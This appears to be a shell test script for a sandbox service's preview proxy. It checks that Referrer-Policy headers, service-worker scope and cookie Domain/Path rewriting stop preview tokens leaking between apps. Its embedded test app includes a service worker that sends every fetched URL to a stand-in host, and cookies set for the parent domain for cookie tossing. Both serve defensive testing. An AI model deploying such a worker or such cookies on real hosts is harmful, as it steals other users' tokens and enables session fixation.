#!/bin/bash
# rev21 outside review: the previews' Referrer-Policy on every kind of
# answer (the app's, nginx's own), and other ways the token could leave.
. "${TOP_SRCDIR:-$(dirname "$0")/..}/t/lib.sh"
. "$TOP_SRCDIR/t/netlib.sh"
net_topology "$@"

T_WORKERS=1 sbd_start "${NET_OPTS[@]}" --preview-domain "http://$PREVIEW_HOST"
NGX_PORT=${BASE##*:}

# an app answering what it is asked: /s/CODE (that status), /two (several
# Referrer-Policy headers, of different case), /sw (Service-Worker-Allowed
# for its worker), /chunk (chunked), /early (a 103 first), /redir (to
# http://localhost:PORT/x, which nginx rewrites)
cat > "$T_DIR/app.py" <<'PY'
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def end(self, body=b"ok\n"):
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD" and body:
            self.wfile.write(body)
    def do_GET(self):
        p = self.path.split("?")[0]
        if p.startswith("/s/"):
            code = int(p[3:])
            self.send_response(code)
            self.send_header("Referrer-Policy", "unsafe-url")
            if code in (301, 302, 303, 307, 308):
                self.send_header("Location", "https://third.example/")
            self.end(b"" if code in (204, 304) else b"x\n")
        elif p == "/two":
            self.send_response(200)
            self.send_header("Referrer-Policy", "unsafe-url")
            self.send_header("referrer-policy", "no-referrer-when-downgrade")
            self.send_header("REFERRER-POLICY", "unsafe-url")
            self.end()
        elif p == "/sw":
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Service-Worker-Allowed", "/")
            self.end(b"self.addEventListener('fetch', e => fetch('https://third.example/?' + e.request.url));\n")
        elif p == "/chunk":
            self.send_response(200)
            self.send_header("Referrer-Policy", "unsafe-url")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for part in (b"a" * 10, b"b" * 10):
                self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
                self.wfile.flush()
            self.wfile.write(b"0\r\n\r\n")
        elif p == "/early":
            self.wfile.write(b"HTTP/1.1 103 Early Hints\r\nLink: <https://third.example/a.css>; rel=preload; as=style\r\nReferrer-Policy: unsafe-url\r\n\r\n")
            self.send_response(200)
            self.end()
        elif p == "/cookie":
            # cookies for the parent domain (every preview's) and for
            # paths the app knows as its own
            self.send_response(200)
            self.send_header("Set-Cookie", "tossed=1; Domain=%s; Path=/" % sys.argv[2])
            self.send_header("Set-Cookie", "tossed2=1; domain=.%s" % sys.argv[2])
            self.send_header("Set-Cookie", "tossed3=1; Domain=x.invalid; Domain=%s" % sys.argv[2])
            self.send_header("Set-Cookie", "tossed4=1; DOMAIN=%s; PATH=/" % sys.argv[2])
            self.send_header("Set-Cookie", "own=1; Path=/")
            self.send_header("Set-Cookie", "api=1; Path=/api; HttpOnly")
            self.end()
        elif p == "/redir":
            self.send_response(302)
            self.send_header("Location", "http://localhost:%s/x" % sys.argv[1])
            self.send_header("Referrer-Policy", "unsafe-url")
            self.end()
        else:
            self.send_response(200)
            self.end()
    do_HEAD = do_GET
    def do_POST(self):
        self.do_GET()
ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
PY

api POST /sandboxes/web
is "$STATUS" 200 "sandbox web created"
STATUS=$(curl -s -o /dev/null -w '%{http_code}' -X PUT -H 'Content-Type: application/octet-stream' \
	--data-binary "@$T_DIR/app.py" "$BASE/sandboxes/web/files/workspace/app.py")
is "$STATUS" 200 "the app is in the sandbox"
api POST /sandboxes/web/processes "{\"command\": \"exec python3 /workspace/app.py 3000 $PREVIEW_HOST\", \"processId\": \"app\"}"
is "$STATUS" 200 "the app started"
exec_in web "for i in \$(seq 100); do python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 3000))' 2>/dev/null && exit 0; sleep 0.1; done; exit 1"
is "$(jqr .data.exitCode)" 0 "it listens"
api POST /sandboxes/web/ports '{"port": 3000}'
T=$(jqr .data.token)
like "$T" '^[a-z2-7]{26}$' "port 3000 exposed"
api POST /sandboxes/web/ports '{"port": 3999}'
T9=$(jqr .data.token)
like "$T9" '^[a-z2-7]{26}$' "port 3999 (nothing listens) exposed"
H="3000-$T.$PREVIEW_HOST"
H9="3999-$T9.$PREVIEW_HOST"
PP="/preview/3000-$T"

# rp HOST PATH [curl options...]: "STATUS | the Referrer-Policy headers"
rp() {
	local out
	out=$(curl -s -D - -o /dev/null --max-time 20 -H "Host: $1" "${@:3}" "$BASE$2" | tr -d '\r')
	printf '%s | %s' "$(printf '%s\n' "$out" | awk '/^HTTP\//{s=$2} END{print s}')" \
		"$(printf '%s\n' "$out" | grep -i '^referrer-policy:' | tr 'A-Z' 'a-z' | tr '\n' ' ')"
}
SO="referrer-policy: same-origin "
SX="referrer-policy: strict-origin "

# --- the app's answers (expected to hold) ---------------------------------------------
is "$(rp "$H" /two)" "200 | $SO" "host form: three app policies of three cases -> one same-origin"
is "$(rp "$H" /two -I)" "200 | $SO" "host form: HEAD"
for c in 301 302 304 400 404 500 502 503; do
	is "$(rp "$H" /s/$c)" "$c | $SO" "host form: the app's $c"
done
is "$(rp "$H" /s/304 -H 'If-None-Match: "x"')" "304 | $SO" "host form: a 304 to a conditional GET"
is "$(rp "$H" /chunk)" "200 | $SO" "host form: a chunked answer"
is "$(rp "$H" /redir)" "302 | $SO" "host form: a redirect nginx rewrites (proxy_redirect)"
loc=$(curl -s -D - -o /dev/null -H "Host: $H" "$BASE/redir" | tr -d '\r' | sed -n 's/^[Ll]ocation: //p')
like "$loc" "^http://$H(:[0-9]+)?/x\$" "(control) its Location rewritten to the preview's own"
is "$(rp "$H" /s/200 -X POST -d a=b -H "Origin: http://$H")" "200 | $SO" "host form: a same-origin form post"
is "$(rp "$PREVIEW_HOST" "$PP/two")" "200 | $SX" "path form: three app policies -> one strict-origin"
is "$(rp "$PREVIEW_HOST" "$PP/s/302")" "302 | $SX" "path form: the app's redirect"
is "$(rp "$PREVIEW_HOST" "$PP/s/500")" "500 | $SX" "path form: the app's 500"
is "$(rp "$PREVIEW_HOST" "$PP/redir")" "302 | $SX" "path form: a redirect nginx rewrites"
# (the upgraded connection stays open: curl would end only at --max-time;
# its headers are read once whole, waited for 20 s as rp's, not 3)
curl -s -D "$T_DIR/ws.h" -o /dev/null --max-time 20 -H "Host: $H" -H 'Connection: Upgrade' -H 'Upgrade: websocket' \
	-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' "$BASE/s/101" &
WS=$!
for _ in $(seq 1 200); do grep -q $'^\r$' "$T_DIR/ws.h" 2>/dev/null && break; kill -0 "$WS" 2>/dev/null || break; sleep 0.1; done
kill "$WS" 2>/dev/null; wait "$WS" 2>/dev/null
ws=$(tr -d '\r' <"$T_DIR/ws.h" 2>/dev/null)
like "$(printf '%s\n' "$ws" | grep -i '^referrer-policy' | tr 'A-Z' 'a-z')" '^referrer-policy: same-origin$' \
	"host form: a 101 WebSocket upgrade: $(printf '%s\n' "$ws" | head -n1)"
early=$(curl -s -D - -o /dev/null --max-time 5 -H "Host: $H" "$BASE/early" | tr -d '\r')
diag "a 103 first: $(printf '%s' "$early" | tr '\n' '|')"
unlike "$(printf '%s\n' "$early" | grep -i '^referrer-policy' | tr 'A-Z' 'a-z')" 'unsafe-url' \
	"host form: an app's 103 (early hints) passes no policy of its own"

# --- nginx's own answers on a preview URL ---------------------------------------------
is "$(rp "3000-abcdefghijklmnopqrstuvwxyz.$PREVIEW_HOST" /)" "403 | $SO" \
	"host form: nginx's 403 for a bad token carries the policy"
is "$(rp "$H9" /)" "502 | $SO" "host form: nginx's 502 (nothing listens) carries the policy"
is "$(rp "$PREVIEW_HOST" /preview/3000-abcdefghijklmnopqrstuvwxyz/)" "403 | $SX" \
	"path form: nginx's 403 for a bad token carries the policy"
is "$(rp "$PREVIEW_HOST" "/preview/3999-$T9/")" "502 | $SX" "path form: nginx's 502 carries the policy"
is "$(rp "$PREVIEW_HOST" "$PP")" "308 | $SX" "path form: nginx's 308 to the slash carries the policy"

# --- another way out: a service worker over every path-form preview -------------------
# the path form's previews share one origin; an app allowed a worker's
# scope of / (Service-Worker-Allowed) sees every fetch of every other
# preview of that origin in that browser, tokens and all
sw=$(curl -s -D - -o /dev/null -H "Host: $PREVIEW_HOST" "$BASE$PP/sw" | tr -d '\r' | grep -i '^service-worker-allowed')
is "$sw" "" "path form: an app's Service-Worker-Allowed is not passed (a worker's scope stays below its preview)"
sw=$(curl -s -D - -o /dev/null -H "Host: $H" "$BASE/sw" | tr -d '\r' | grep -ic '^service-worker-allowed')
is "$sw" 1 "(control) the host form passes it (an origin of its own)"

# --- cookies: one preview's app setting them for every preview ------------------------
# (cookie tossing: a Domain of the parent reaches every other preview of
# that domain, another user's app included, for session fixation)
ck() { curl -s -D - -o /dev/null --max-time 20 -H "Host: $1" "$BASE$2" | tr -d '\r' | grep -i '^set-cookie:' | sed 's/^[^:]*: //' | tr '\n' '|'; }
C=$(ck "$H" /cookie)
diag "host form: $C"
like "$C" "tossed=1; Domain=$H; Path=/\|" "host form: a cookie for the parent domain is the preview's own host's"
like "$C" "tossed2=1; domain=$H\|" "host form: so is one for .parent"
unlike "$(printf '%s' "$C" | tr 'A-Z' 'a-z')" "domain=\.?$PREVIEW_HOST( *;|\|)" "host form: no cookie leaves for the parent domain (two Domains, upper case)"
like "$C" "own=1; Path=/\|" "host form: a host-only cookie stays as it is"
C=$(ck "$PREVIEW_HOST" "$PP/cookie")
diag "path form: $C"
like "$C" "own=1; Path=$PP/\|" "path form: an app's Path=/ is its preview's prefix (not every preview's)"
like "$C" "api=1; Path=$PP/api; HttpOnly\|" "path form: Path=/api is the prefix's /api"
unlike "$(printf '%s' "$C" | tr 'A-Z' 'a-z')" "path=/(;|\||api)" "path form: no cookie is set for a path outside the preview"
unlike "$(printf '%s' "$C" | tr 'A-Z' 'a-z')" "domain=[^;|]" "path form: no cookie names a domain (emptied: this host's only, not the host form's previews below it)"

done_testing
